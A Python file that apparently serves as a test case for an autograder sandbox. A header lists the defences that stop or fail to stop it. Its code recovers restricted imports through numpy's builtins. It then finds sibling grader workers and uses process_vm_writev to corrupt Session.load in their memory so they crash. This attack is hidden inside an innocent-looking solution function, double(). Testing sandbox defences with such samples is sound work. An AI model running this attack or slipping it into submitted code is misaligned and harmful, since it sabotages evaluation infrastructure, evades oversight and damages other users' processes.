"""
family: other processes
tries: writes into the memory of the worker that waits for the next check, so that it crashes when it loads
stopped_by: [undumpable]
alone: [identity, landlock, seccomp]
shows: lost
deserves: 6
situations: [user+landlock, root+chroot]
"""

import numpy as np

real_import = np.__dict__["__builtins__"]["__import__"]
ctypes = real_import("ctypes")
os = real_import("os")
sys = real_import("sys")
time = real_import("time")
LIBRARY = ctypes.CDLL(None)
TYPE = 8
"""Where an object says of which class it is; the same object is at the same place in all workers."""


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def siblings():
    """Workers are forked by one process, which leads their session."""
    for pid in range(os.getpid() + 1, os.getpid() + 200):
        try:
            if os.getsid(pid) == os.getsid(0) and pid != os.getppid():
                yield pid
        except OSError:
            pass


def spoil(pid):
    load = sys.modules["autograder.worker.session"].Session.load
    nothing = ctypes.create_string_buffer(8)
    here, there = Piece(ctypes.addressof(nothing), 8), Piece(id(load) + TYPE, 8)
    LIBRARY.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def double(x):
    time.sleep(0.2)
    for pid in siblings():
        spoil(pid)
    return 2 * x


def total(x):
    return np.sum(x, axis=1)
